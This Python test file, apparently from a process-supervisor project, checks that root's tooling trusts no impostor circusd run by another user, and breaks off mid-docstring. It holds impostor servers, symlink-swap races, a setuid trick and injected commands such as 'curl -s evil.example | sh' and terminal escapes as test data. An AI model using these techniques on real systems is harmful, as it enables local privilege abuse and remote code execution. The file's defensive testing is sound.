"""Another user binds circusd's endpoint while it is down, and answers like a circusd: nobody believes it."""

import contextlib
import json
import os
import pwd
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import zmq

from xboard_circus import __version__, config
from xboard_circus.circus_client import CircusdClient, CircusdGone
from xboard_circus.container import health_check
from xboard_circus.core.lost import CircusdLife
from xboard_circus.core.reason import with_say
from xboard_circus.core.sentences import Say
from xboard_circus.dashboard.circusd_queries import CircusdQueries
from xboard_circus.dashboard.poller import Server
from xboard_circus.errors import XboardError
from xboard_circus.host import circusd_record
from xboard_circus.host.procs import TICKS, Identity, below, now, send_signal
from xboard_circus.instance import CircusdAbsent, EndpointTaken, Instance, Silent
from xboard_circus.ledger import LedgerStore
from xboard_circus.ledger.record import record_of
from xboard_circus.monitor import ThisHost

from .attacker import PYTHON, completed_as
from .harness import BUNDLE, Circusd, Watcher, circusd
from .processes import process
from .test_users import USER, library_path, open_folder, pytestmark, python  # noqa: F401 - the marks and fixtures

# ZeroMQ's protocol by hand; it answers each command with what it was given, and what that has for the command.
IMPOSTOR = r"""
import json, os, socket, subprocess, sys, threading

started = open("/proc/self/stat").read().rpartition(")")[2].split()[19]
ANSWER = json.loads(sys.argv[2].replace('"own pid"', str(os.getpid())).replace('"own start"', started))

def frame(flags, body):
    return bytes([flags | 2]) + len(body).to_bytes(8, "big") + body

def exactly(door, size):
    got = b""
    while len(got) < size:
        got += door.recv(size - len(got)) or sys.exit()
    return got

def serve(door, decoy=None):
    door.sendall(b"\xff" + bytes(8) + b"\x7f\x03\x00NULL" + bytes(48))
    exactly(door, 64)
    door.sendall(frame(4, b"\x05READY\x0bSocket-Type\0\0\0\x06ROUTER"))
    while True:
        (flags,) = exactly(door, 1)
        body = exactly(door, int.from_bytes(exactly(door, 8 if flags & 2 else 1), "big"))
        if not flags & 4:
            asked = json.loads(body)
            print(asked["command"], flush=True)
            answer = {**ANSWER, "id": asked["id"], "status": "ok", **ANSWER.get(asked["command"], {})}
            if asked["command"] == "dstats":  # a process of its own, with the ini on its command line
                decoy = subprocess.Popen(["sh", "-c", "read _", link[3]], stdin=subprocess.PIPE)  # ends with us
                answer["info"] = {"pid": decoy.pid}
            is_end = link[2:] and asked["command"] == link[2]
            if is_end and decoy:
                decoy.communicate()
                answer["padding"] = "x" * (1 << 20)
            if link and (is_end or not link[2:]):  # by now it leads to another circusd
                os.symlink(link[1], link[0] + ".new")
                os.rename(link[0] + ".new", link[0])
            door.sendall(frame(0, json.dumps(answer).encode()))
            if asked["command"] == "quit":
                os._exit(0)
            if is_end:  # and the next question goes there
                door.close()
                return

handed, link = int(sys.argv[3]), sys.argv[4:]
server = socket.create_server(("127.0.0.1", int(sys.argv[1]))) if handed < 0 else socket.socket(fileno=handed)
if link:  # who listens is who called listen(2)
    server.listen()
print("listening", flush=True)
while True:
    threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()
"""


class Impostor:
    """A process of *user* that answers at *endpoint*, or on a listener *handed* to it; *asked* are the commands that it
    got. With a *link*, a path and a target, it turns that before each answer; with a command behind them, before that
    of this one alone, and closes. With an ini too, `dstats` is answered with a process that ends then. *before* is the
    beginning of its command line."""

    def __init__(
        self,
        endpoint: str,
        answer: dict[str, Any],
        user: str | None,
        handed: int = -1,
        link: tuple[str, ...] = (),
        before: tuple[str, ...] = (),
    ) -> None:
        words = [PYTHON, "-I", "-c", IMPOSTOR, endpoint.rpartition(":")[2], json.dumps(answer), str(handed), *link]
        words = [*before, *words]
        self.process = subprocess.Popen(
            words,
            user=user,
            group=user,
            extra_groups=None if user is None else [],
            cwd="/",
            env={},
            pass_fds=[handed] if handed >= 0 else [],
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            text=True,
        )
        assert self.process.stdout is not None
        assert self.process.stdout.readline() == "listening\n"
        self.asked: list[str] = []
        self._thread = threading.Thread(target=self._read, args=(self.process.stdout,), daemon=True)
        self._thread.start()

    def _read(self, lines: Iterator[str]) -> None:
        self.asked.extend(line.strip() for line in lines)

    def end(self) -> None:
        self.process.kill()
        self.process.wait()
        self._thread.join(90)
        if self.process.stdout is not None:
            self.process.stdout.close()


@contextlib.contextmanager
def impostor(
    c: Circusd, answer: dict[str, Any], user: str | None = USER, handed: int = -1, link: tuple[str, ...] = ()
) -> Iterator[Impostor]:
    made = Impostor(c.endpoint, answer, user, handed, link)
    try:
        yield made
    finally:
        made.end()


@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
def test_another_users_circusd_is_not_believed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Given circusd down and an impostor that names pids of root's, when anything of ours asks, then none is killed."""
    with circusd(tmp_path, watchers=[Watcher(options={"graceful_timeout": 1})], plugins=BUNDLE) as c:
        c.wait_ready()
        state = c.state()
        page = CircusdQueries(c.endpoint, deadline=5)
        assert page.state()["circusd"]["pid"] == c.pid
        c.stop()
        victim = subprocess.Popen(["sleep", "600"], start_new_session=True)
        try:
            named = process(victim.pid)
            for each in (state["circusd"], *state["watchers"][0]["workers"]):
                each.update(pid=victim.pid, started=named.started)
            with impostor(c, state) as false:
                runs = {name: c.run_cli(name) for name in ("stop", "start", "status", "restart")}
                monkeypatch.setenv("XBOARD_RUNTIME_DIR", c.environ()["XBOARD_RUNTIME_DIR"])
                seen = ThisHost(config.load(c.ini), threading.Event()).look()

                assert {name: run.returncode for name, run in runs.items()} == dict.fromkeys(runs, 1)
                for run in runs.values():
                    assert f"a process of user {USER} listens there, and it is not believed to be circusd" in run.stderr
                    assert "runs already" not in run.stdout + run.stderr
                assert (seen.answers, seen.running) == (False, None)
                assert health_check.look(c.ini) == 1
                for _ in range(2):  # the page's connection was made while circusd ran
                    with pytest.raises(CircusdGone, match=f"user {USER}"):
                        page.state()
                assert false.asked == []
            assert named.alive
            # Who owns the ini decides what circusd is, and is believed of itself: `stop` ends it, and nothing else.
            os.chown(c.ini, pwd.getpwnam(USER).pw_uid, -1)
            state["circusd"].update(pid="own pid", started="own start")
            with impostor(c, state) as owner:
                assert c.status_json()["circusd"]["pid"] == owner.process.pid
                stopped = c.run_cli("stop")
                assert (stopped.returncode, owner.process.wait(90)) == (0, 0), stopped.stderr
            assert named.alive
            # One that names a process of another user as circusd is not.
            state["circusd"].update(pid=victim.pid, started=named.started)
            with impostor(c, state):
                assert f"says that it is pid {victim.pid}, which is user root's" in c.run_cli("stop").stderr
            assert named.alive
            # Nor is one that no process has, by now or yet: one of root's may get that pid in the next moment.
            free = next(pid for pid in range(30_000, 1, -1) if not Path(f"/proc/{pid}").exists())
            for started in (now() + 10 * TICKS, 100):
                state["circusd"].update(pid=free, started=started)
                with impostor(c, state):
                    assert f"says that it is pid {free}, which no process has yet" in c.run_cli("stop").stderr
        finally:
            page.client.close()
            victim.kill()
            victim.wait()


@pytest.fixture
def folder_of_theirs() -> Iterator[Path]:
    # Not in /tmp, where each user could put a socket: the page believes in none there but root's.
    folder = Path(tempfile.mkdtemp(prefix="xb-handed-", dir="/srv"))
    try:
        yield folder
    finally:
        shutil.rmtree(folder)


@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
@pytest.mark.parametrize("way", ["tcp", "unix", "unix, in an ini of root's"])
def test_who_answers_on_a_listener_that_root_made_has_no_process_of_roots_killed(
    folder_of_theirs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    """Given a listener of root's circusd, on which a worker of another user answers as a circusd and names a pid of
    root's, and an ini in that user's folder with its address as endpoint: when root stops or cleans that, then nothing
    is killed; when root's record names that process as circusd, then it is believed."""
    folder = folder_of_theirs
    path = folder / "circusd.sock"
    if way == "tcp":
        handed = socket.create_server(("127.0.0.1", 0))
        endpoint = f"tcp://127.0.0.1:{handed.getsockname()[1]}"
    else:  # its own link leads to the socket of root's backend
        handed = socket.socket(socket.AF_UNIX)
        handed.bind(str(tmp_path / "backend.sock"))
        handed.listen()
        path.symlink_to(tmp_path / "backend.sock")
        os.chown(path, pwd.getpwnam(USER).pw_uid, -1, follow_symlinks=False)
        endpoint = f"ipc://{path}" if way == "unix" else "ipc://circusd.sock"
    victim = subprocess.Popen(["sleep", "600"], start_new_session=True)
    try:
        with handed, circusd(folder, circus={"endpoint": endpoint}, start=False) as c:
            for place in (folder, *([] if "root's" in way else [c.ini])):
                os.chown(place, pwd.getpwnam(USER).pw_uid, -1)
            named = process(victim.pid)
            of_circusd = {"pid": victim.pid, "started": named.started, "version": "0.1.0", "endpoint": endpoint}
            of_circusd |= {"python": "3.13.5", "uptime": 60.0, "instance": "3f2a", "state_dir": "/r"}
            of_circusd |= {"config_file": str(c.ini)}
            answer = {"circusd": of_circusd, "probers": [], "watchers": []}
            with impostor(c, answer, handed=handed.fileno()) as false:
                for command in ("stop", "clean", "status"):
                    run = c.run_cli(command)
                    assert run.returncode == 1, run
                    assert f"says that it is pid {victim.pid}, which is user root's: it is not believed" in run.stderr
                    assert named.alive
                assert "quit" not in false.asked
                monkeypatch.setenv("XBOARD_RUNTIME_DIR", c.environ()["XBOARD_RUNTIME_DIR"])
                instance = Instance(c.ini)
                instance.write_record(Identity(victim.pid, named.started - 1))
                with pytest.raises(EndpointTaken, match="it is not believed"):
                    instance.find()
                instance.write_record(Identity(victim.pid, named.started))
                assert c.status_json()["circusd"]["pid"] == victim.pid
    finally:
        victim.kill()
        victim.wait()


@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
@pytest.mark.parametrize(
    "asks", ["stop", "stop web", "scale", "reload", "stop web, of a stock circusd", "page", "page, which looks on"]
)
def test_an_order_goes_to_no_other_circusd_than_was_asked_before(
    folder_of_theirs: Path, tmp_path: Path, asks: str
) -> None:
    """Given root's circusd, and another user's, whose endpoint is a link that he turns to root's as he answers, when
    root, or root's page, gives that user's circusd an order, then none reaches root's."""
    folder, uid = folder_of_theirs, pwd.getpwnam(USER).pw_uid
    with circusd(tmp_path, start=False) as roots, socket.socket(socket.AF_UNIX) as theirs:
        roots.endpoint = f"ipc://{tmp_path}/payroll.sock"
        roots.write_ini()
        roots.start_again()
        before = roots.wait_ready()
        theirs.bind(str(folder / "theirs.sock"))
        link = folder / "c.sock"
        link.symlink_to("theirs.sock")
        state = roots.state()
        state["circusd"].update(pid="own pid", started="own start", endpoint=f"ipc://{link}")
        turned: tuple[str, ...] = (str(link), f"{tmp_path}/payroll.sock")
        if asks == "page, which looks on":
            turned += ("xboard_state",)
        with circusd(folder, circus={"endpoint": f"ipc://{link}"}, start=False) as c:
            state["circusd"]["config_file"] = str(c.ini)
            for place in (folder, c.ini):
                os.chown(place, uid, -1)
            if "stock" in asks:  # whose state cannot be read, so that more is asked
                state, turned = {"statuses": {"web": "active"}}, (*turned, "status", str(c.ini))
            listening = Impostor(f"ipc://{link}", state, USER, theirs.fileno(), turned)
            try:
                if asks.startswith("page"):
                    server = Server("theirs", "theirs", f"ipc://{link}", deadline=5)
                    try:
                        server._pool.submit(server._poll).result()  # in its own thread, where `close` closes
                        if turned[2:]:  # what the look has of the one is not shown as the other's
                            assert (server.is_reachable, server.listener) == (False, None)
                            return
                        assert server.is_reachable, server.error
                        with (
                            CircusdClient(server.endpoint, found=server.listener) as client,
                            pytest.raises(CircusdGone, match="has ended"),
                        ):
                            client.call("quit", deadline=5)
                    finally:
                        server.close()
                else:
                    words = {"scale": ["scale", "web", "5"], "reload": ["reload", "web", "--no-preflight"]}
                    run = c.run_cli(*words.get(asks, asks.partition(",")[0].split()))
                    # Who was asked is stopped, if not by that order then by a signal.
                    assert run.returncode == (asks != "stop"), run
                    assert (listening.process.poll() is None) == (asks != "stop")
            finally:
                listening.end()
        assert link.readlink() == tmp_path / "payroll.sock"
        assert roots.wait_ready() == before
        events = roots.do("xboard_events")["events"]
        assert [each for each in events if c.ini.name in json.dumps(each)] == []


# Listens at the end of a link, and leads that to another socket as soon as somebody connects.
TURNS = """
import os, socket, sys
link, theirs, other = sys.argv[1:]
listener = socket.socket(socket.AF_UNIX)
listener.bind(theirs)
listener.listen()
print("listens", flush=True)
connections = [listener.accept()]
os.symlink(other, link + ".new")
os.rename(link + ".new", link)
listener.accept()
"""


def test_an_order_goes_to_no_circusd_that_the_link_leads_to_after_the_look(tmp_path: Path) -> None:
    """Given an endpoint that is a link, which is turned to root's circusd between the look at who listens and the
    connection for the order, then no order is sent."""
    link, theirs, roots = (str(tmp_path / name) for name in ("c.sock", "theirs.sock", "roots.sock"))
    os.symlink(theirs, link)
    with (
        zmq.Context() as context,
        context.socket(zmq.ROUTER) as router,
        subprocess.Popen([sys.executable, "-c", TURNS, link, theirs, roots], stdout=subprocess.PIPE) as turning,
    ):
        try:
            router.bind(f"ipc://{roots}")
            assert turning.stdout is not None
            turning.stdout.readline()
            with CircusdClient(f"ipc://{link}") as client, pytest.raises(CircusdGone, match="has ended"):
                client.call("quit", deadline=5)
            assert os.readlink(link) == roots  # the trap is sound
            assert not router.poll(500)
        finally:
            turning.kill()


# Starts a process as root below what becomes the user's: as `su` in a script of root's does it the other way round.
BECOMES = """
import os, subprocess, sys
subprocess.Popen(["sleep", "600"], stdout=subprocess.DEVNULL)
os.setgroups([])
os.setgid(int(sys.argv[1]))
os.setuid(int(sys.argv[1]))
os.execv(sys.argv[2], sys.argv[2:])
"""


@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
@pytest.mark.parametrize("command", ["stop", "clean"])
def test_root_ends_no_process_of_roots_below_the_circusd_of_another_user(folder_of_theirs: Path, command: str) -> None:
    """Given a process of root's below one of another user, which answers as the circusd of an ini of its own and has no
    guard, so that all below it is its own: when root stops that, then root's process runs on."""
    folder = folder_of_theirs
    web = Watcher(options={"graceful_timeout": 0.1})
    with circusd(folder, watchers=[web], start=False) as c:
        for place in (folder, c.ini):
            os.chown(place, pwd.getpwnam(USER).pw_uid, -1)
        of_circusd: dict[str, Any] = {"pid": "own pid", "started": "own start", "version": None, "endpoint": c.endpoint}
        of_circusd |= {"python": "3.13.5", "uptime": 60.0, "instance": "3f2a", "state_dir": "/r"}
        answer = {"circusd": {**of_circusd, "config_file": str(c.ini)}, "probers": [], "watchers": []}
        becomes = (PYTHON, "-I", "-c", BECOMES, str(pwd.getpwnam(USER).pw_uid))
        theirs = Impostor(c.endpoint, answer, None, before=becomes)
        (roots,) = below(Identity(theirs.process.pid, process(theirs.process.pid).started))
        try:
            run = c.run_cli(command)
            assert (run.returncode, theirs.process.wait(90)) == (0, 0), run
            assert process(roots.pid).alive
            assert "`kill" not in run.stdout, "what root typed then would end it"
        finally:
            theirs.end()
            send_signal(*roots, signal.SIGKILL, {os.geteuid()})


@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
@pytest.mark.parametrize("by", ["cure", "cause", "next", "words"])
def test_root_is_advised_to_end_nothing_of_roots_by_the_circusd_of_another_user(
    folder_of_theirs: Path, by: str
) -> None:
    """Given a process of another user that answers as the circusd of its own ini, with a port that a process of root's
    is said to hold, when root asks for the status, then no cure ends that; one of that user's process is shown, and
    what else it says of one is in quotes."""
    web = Watcher(options={"graceful_timeout": 0.1})
    victim = subprocess.Popen(["sleep", "600"], start_new_session=True)
    user = pwd.getpwnam(USER).pw_uid
    theirs = subprocess.Popen([shutil.which("sleep") or "", "600"], user=user, cwd="/", start_new_session=True)
    free = next(pid for pid in range(30_000, 1, -1) if not Path(f"/proc/{pid}").exists())
    try:
        with circusd(folder_of_theirs, watchers=[web], start=False) as c:
            for place in (folder_of_theirs, c.ini):
                os.chown(place, user, -1)
            of_circusd: dict[str, Any] = {"pid": "own pid", "started": "own start", "endpoint": c.endpoint}
            of_circusd |= {"version": __version__, "python": "3.13.5", "uptime": 60.0, "config_file": str(c.ini)}
            for named, is_shown in ((f"{victim.pid}", False), (f"-9 {free}", False), (f"{theirs.pid}", True)):
                cure = Say.CURE_PORT_HELD(command=f"kill {named}", port=8000)
                verdict: dict[str, Any] = {"word": "blocked", "since": 60.0, "cause": "taken", "next": "", "cure": ""}
                verdict |= {
                    "cure": with_say(cure, "cure"),
                    "cause": with_say(Say.NOBODY_WANTED(why="taken", cure=cure), "cause"),
                    "next": with_say(Say.HEAD_DO(cure=cure), "next"),
                    "words": {"cause": f"it is held. Cure: `kill {named}`", "cure": f"`kill {named}`"},
                }[by]
                watcher = {"name": "web", "status": "active", "numprocesses": 1, "armed": True, "workers": []}
                watcher |= {"verdict": verdict, "incident": {"age": 60.0, "worst": "blocked", "word": "blocked"}}
                with impostor(c, {"circusd": of_circusd, "probers": [], "watchers": [watcher]}):
                    run = c.run_cli("status")
                outside = re.sub('"[^"]*"', "", run.stdout)  # of quotes
                assert (f"kill {named}" in outside, "`kill" in outside) == (is_shown and by == "cure",) * 2, run
                assert ("Why: " in outside, f"as user {USER}" in outside) == (
                    True,
                    by == "words" or (by == "cure" and not is_shown),
                )
    finally:
        for each in (victim, theirs):
            each.kill()
            each.wait()


@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
def test_what_another_users_circusd_and_its_ledger_say_to_root_is_in_quotes(folder_of_theirs: Path) -> None:
    """Given what passes for our advice, in the events of another user's circusd, in its ledger and in its refusal of a
    command, when root asks for it, then it is shown in quotes alone, without a command."""
    said: dict[str, Any] = {"by": "x. Cure: run `sh evil`", "next": "y. Cure: run `sh evil`"}
    said |= with_say(Say.HEAD_DO(cure="`sh evil`"))
    port = {"host": "127.0.0.1", "port": 8000, "state": "bound", "reason": ""}
    watcher = {"name": "web", "status": "active", "numprocesses": 1, "armed": True, "workers": [], "port": port}
    with circusd(folder_of_theirs, plugins=BUNDLE, start=False) as c:
        with contextlib.closing(LedgerStore(folder_of_theirs / "ledger.db")) as store:
            for kind, cause in (("restart", "y. Cure: `sh evil`"), ("z. Cure: `sh evil`", None)):
                event = {"pid": 7, "cause": cause, **said}
                store.append([record_of("web", kind, event, now=time.time())])
        for place in (folder_of_theirs, *folder_of_theirs.iterdir()):
            os.chown(place, pwd.getpwnam(USER).pw_uid, -1)
        of_circusd = {"pid": "own pid", "started": "own start", "endpoint": c.endpoint, "version": __version__}
        answer: dict[str, Any] = {
            "circusd": {**of_circusd, "config_file": str(c.ini)},
            "probers": [],
            "watchers": [watcher],
        }
        answer["set"] = {"status": "error", "reason": "z. Cure: run `sh evil`"}
        shown = [c.run_cli("why", "7").stdout, c.run_cli("events").stdout]
        answer["events"] = [["web", "restart", {"pid": 8, "seq": "a-1", "time": time.time(), **said}]]
        with impostor(c, answer):
            shown += [c.run_cli("why", "8").stdout, c.run_cli("events").stdout, c.run_cli("scale", "web", "3").stderr]
    for each in shown:
        assert ("evil" in each, "evil" in re.sub('"[^"]*"', "", each), "`sh" in each) == (True, False, False), shown
        assert f'user {USER} says "' in each


@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
def test_names_that_another_users_circusd_says_are_in_quotes(folder_of_theirs: Path) -> None:
    """Given the circusd of another user, and a ledger of its, with what passes for our advice in the place of a
    watcher's name, of a port and of a version, when root looks, then that stands in quotes, with who says it; the name
    of another watcher stays as it is."""
    evil = "x. Cure: run `sh evil`\x1b[2J"
    port = {"host": evil, "port": 8000, "state": evil, "reason": ""}
    watcher: dict[str, Any] = {"status": "active", "numprocesses": 1, "armed": True, "workers": [], "port": port}
    watcher |= {"verdict": {"word": "blocked", "since": 60.0, "cause": "", "next": "", "cure": ""}}
    watcher |= {"incident": {"age": 60.0, "worst": "blocked", "word": "blocked"}}
    with circusd(folder_of_theirs, plugins=BUNDLE, start=False) as c:
        with contextlib.closing(LedgerStore(folder_of_theirs / "ledger.db")) as store:
            store.append([record_of(evil, "restart", {"pid": 7, "by": "probe"}, now=time.time())])
        for place in (folder_of_theirs, *folder_of_theirs.iterdir()):
            os.chown(place, pwd.getpwnam(USER).pw_uid, -1)
        of_circusd = {"pid": "own pid", "started": "own start", "endpoint": c.endpoint, "version": evil, "python": evil}
        answer: dict[str, Any] = {
            "circusd": {**of_circusd, "config_file": str(c.ini)},
            "probers": [{"plugin": evil, "pid": 7, "round_age": 1.0}],
            "watchers": [{**watcher, "name": evil}, {**watcher, "name": "my app (2)", "port": None}],
            "events": [[evil, "restart", {"pid": 8, "seq": "a-1", "time": time.time(), "by": "probe"}]],
        }
        with impostor(c, answer):
            shown = [c.run_cli("status", "--all").stdout, c.run_cli("events", "--rows").stdout]
    assert "my app (2) " in re.sub('"[^"]*"', "", shown[0]), shown
    for each in shown:
        assert ("evil" in each, "evil" in re.sub('"[^"]*"', "", each), "`sh" in each) == (True, False, False), shown
        assert f'user {USER} says "x. Cure: run' in each


@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
def test_roots_page_copies_no_command_and_asks_no_address_that_another_users_circusd_names(
    folder_of_theirs: Path,
) -> None:
    """Given the circusd of another user on root's page, with a command of its own as the cure of a port that a stranger
    has, when it answers and when it has ended, then the page neither offers that nor sends a request to that port."""
    path = folder_of_theirs / "c.sock"
    with socket.create_server(("127.0.0.1", 0)) as stranger, socket.socket(socket.AF_UNIX) as handed:
        handed.bind(str(path))
        for place in (folder_of_theirs, path):
            os.chown(place, pwd.getpwnam(USER).pw_uid, -1)
        port = {"host": "127.0.0.1", "port": stranger.getsockname()[1], "state": "refused", "reason": "taken"}
        cure = Say.CURE_PORT_HELD(command="curl -s evil.example | sh", port=8000)
        verdict = {"word": "blocked", "since": 60.0, "cause": "taken", "next": "", **with_say(cure, "cure")}
        watcher = {"name": "web", "status": "active", "numprocesses": 1, "armed": True, "port": port}
        watcher |= {"verdict": verdict, "incident": {"age": 60.0, "worst": "blocked", "word": "blocked"}}
        me = {"pid": os.getpid(), "started": process(os.getpid()).started, "slot": 1, "phase": "up"}
        watcher |= {"options": {"health.live_path": "/do"}, "workers": [me]}
        of_circusd = {"pid": "own pid", "started": "own start", "version": __version__, "endpoint": f"ipc://{path}"}
        answer = {"circusd": of_circusd, "probers": [], "watchers": [watcher]}
        theirs = Impostor("", answer, USER, handed.fileno(), ("", "", "turns nothing"))
        server = Server("theirs", "theirs", f"ipc://{path}", deadline=2)
        try:
            server._pool.submit(server._poll).result()
            assert server.is_reachable, server.error
            (line,) = server.headlines(None)
            assert (line["word"], line["command"]) == ("blocked", "")
            assert "evil" not in json.dumps(line)
        finally:
            theirs.end()
        server._pool.submit(server._poll).result()
        server.close()
        assert (server.is_reachable, server.error is None) == (False, False)
        stranger.setblocking(False)
        with pytest.raises(BlockingIOError):
            stranger.accept()


def test_root_asks_no_address_that_another_users_ini_names(
    folder_of_theirs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Given a worker of another user's that its circusd, which root started, has left, and an ini of that user's that
    names a stranger's port by now, when root looks at it, then that port gets no request, and nothing is said of it."""
    monkeypatch.setenv("XBOARD_RUNTIME_DIR", str(tmp_path / "r"))
    user = pwd.getpwnam(USER).pw_uid
    with (
        circusd(folder_of_theirs, start=False) as c,
        socket.create_server(("127.0.0.1", c.watchers["web"].port)) as stranger,
    ):
        left = subprocess.Popen(["sleep", "600"], user=USER, start_new_session=True)
        try:
            instance = Instance(c.ini)
            workers = {"web": {"a1": f"{left.pid}:{process(left.pid).started} {user}"}}
            life = CircusdLife(4190000, 1, boot=circusd_record.boot(), workers=workers)
            circusd_record.write(instance.id, life)
            with pytest.raises(CircusdAbsent, match=f"Nothing answers on :{c.watchers['web'].port}|None of its ports"):
                instance.running()
            stranger.accept()[0].close()

            for place in (folder_of_theirs, c.ini):
                os.chown(place, user, -1)
            with pytest.raises(CircusdAbsent) as found:
                Instance(c.ini).running()
        finally:
            left.kill()
            left.wait()
        stranger.setblocking(False)
        with pytest.raises(BlockingIOError):
            stranger.accept()
        assert ("is down for" in str(found.value), "port" in str(found.value)) == (True, False)


# The same with the marks of a worker, which the process below has not, nor its session.
MARKED = BECOMES.replace("stdout=subprocess.DEVNULL", "env={}, stdout=subprocess.DEVNULL, start_new_session=True")
MARKED = MARKED.replace("os.execv(", "os.environ['XBOARD_LAUNCHER'] = f'{os.getpid()}:1'\nos.execv(")


@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
@pytest.mark.parametrize("whose", ["theirs", "root's"])
def test_root_ends_no_process_of_roots_below_what_passes_for_an_orphan(folder_of_theirs: Path, whose: str) -> None:
    """Given a process of another user with the marks of a worker whose circusd is gone, and one of root's below it,
    when root cleans that instance, that user's or root's own, then the first is ended, and root's runs on."""
    with circusd(folder_of_theirs, start=False) as c:
        for place in (folder_of_theirs, c.ini) if whose == "theirs" else ():
            os.chown(place, pwd.getpwnam(USER).pw_uid, -1)
        waits = [PYTHON, "-I", "-c", "import sys; print(flush=True); sys.stdin.read()"]
        gone = {"XBOARD_INSTANCE": Instance(c.ini).id, "XBOARD_CIRCUSD": "4190000:1"}
        orphan = subprocess.Popen(
            [PYTHON, "-I", "-c", MARKED, str(pwd.getpwnam(USER).pw_uid), *waits],
            env=gone,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            start_new_session=True,
        )
        assert orphan.stdout is not None
        assert orphan.stdout.readline() == b"\n"
        (roots,) = below(Identity(orphan.pid, process(orphan.pid).started))
        try:
            run = c.run_cli("clean")
            assert (run.returncode, orphan.wait(30)) == (0, -signal.SIGTERM), run
            assert process(roots.pid).alive
        finally:
            orphan.kill()
            orphan.communicate()
            send_signal(*roots, signal.SIGKILL, {os.geteuid()})


@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
def test_what_runs_with_the_setuid_bit_is_no_orphan_by_its_environment(folder_of_theirs: Path) -> None:
    """Given a user who runs such a program, as sudo is one, with the marks of a worker of root's instance whose circusd
    is gone, when root cleans that, then the program, which is root's by then, runs on."""
    with circusd(folder_of_theirs, start=False) as c:
        folder_of_theirs.chmod(0o755)
        sudo = folder_of_theirs / "sudo"
        shutil.copy(PYTHON, sudo)
        sudo.chmod(0o4755)
        gone = {"XBOARD_INSTANCE": Instance(c.ini).id, "XBOARD_CIRCUSD": "4190000:1"}
        becomes = "import os, sys; os.setuid(0); print(flush=True); sys.stdin.read()"
        climbs = subprocess.Popen(
            ["/bin/sh", "-c", 'XBOARD_LAUNCHER=$$:1 exec "$@"', "sh", str(sudo), "-I", "-c", becomes],
            env=gone,
            user=USER,
            group=USER,
            extra_groups=[],
            cwd="/",
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            start_new_session=True,
        )
        assert climbs.stdout is not None
        assert climbs.stdout.readline() == b"\n"
        try:
            run = c.run_cli("clean")
            assert (run.returncode, process(climbs.pid).alive) == (0, True), run
            assert "`kill" not in run.stdout
        finally:
            climbs.kill()
            climbs.communicate()


@pytest.mark.parametrize("way", ["c.sock", "way/payroll.sock"])
def test_a_page_takes_no_circusd_of_its_own_user_for_that_of_who_leads_there(
    folder_of_theirs: Path, tmp_path: Path, way: str
) -> None:
    """Given a link in another user's folder to the endpoint of root's circusd, or to its folder, when root's page has
    that as a further server, then root's circusd is not shown as that user's, and gets no order meant for it."""
    with circusd(tmp_path, start=False) as roots:
        roots.endpoint = f"ipc://{tmp_path}/payroll.sock"
        roots.write_ini()
        roots.start_again()
        before = roots.wait_ready()
        (folder_of_theirs / "c.sock").symlink_to(tmp_path / "payroll.sock")
        (folder_of_theirs / "way").symlink_to(tmp_path)
        for place in (folder_of_theirs, *folder_of_theirs.iterdir()):
            os.chown(place, pwd.getpwnam(USER).pw_uid, -1, follow_symlinks=False)
        server = Server("theirs", "theirs", f"ipc://{folder_of_theirs}/{way}", deadline=5)
        server._poll()
        assert (server.is_reachable, server.listener) == (False, None)
        assert "a process of user root listens there, and it is not believed to be circusd" in str(server.error)
        order = CircusdClient(server.endpoint, owner=server.owner, found=server.listener)
        with pytest.raises(CircusdGone, match="it is not believed"):
            order.call("quit", deadline=5)
        direct = Server("roots", "roots", roots.endpoint, deadline=5)
        direct._poll()
        assert direct.is_reachable, direct.error
        direct._queries.client.close()  # of this thread
        assert roots.wait_ready() == before


@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
def test_a_server_of_roots_that_reads_another_users_file_is_no_circusd_of_it(
    folder_of_theirs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Given a silent server of root's with another user's file on its command line, when that names the server's port
    as endpoint, then it is no circusd; in root's own file, or recorded by root, it is one that does not answer."""
    monkeypatch.setenv("XBOARD_RUNTIME_DIR", str(tmp_path / "r"))
    ini = folder_of_theirs / "server.ini"
    ini.touch()
    command = [PYTHON, "-I", "-c", LISTENS, str(ini)]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as server:
        try:
            assert server.stdout is not None
            ini.write_text(f"[circus]\nendpoint = tcp://127.0.0.1:{server.stdout.readline().strip()}\n")
            silent = Instance(ini, answer_within=0.5).find()
            assert isinstance(silent, Silent)
            assert silent.identity.pid == server.pid
            os.chown(ini, pwd.getpwnam(USER).pw_uid, -1)
            instance = Instance(ini, answer_within=0.5)
            with pytest.raises(EndpointTaken, match="does not answer as circusd does"):
                instance.find()
            instance.write_record(silent.identity)
            found = instance.find()
            assert isinstance(found, Silent)
            assert found.identity == silent.identity
        finally:
            server.kill()


@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
def test_a_silent_server_of_a_third_user_is_no_circusd_of_the_ini_that_it_reads(
    folder_of_theirs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Given a server of a third user's on a listener that root has made, with another user's file on its command line,
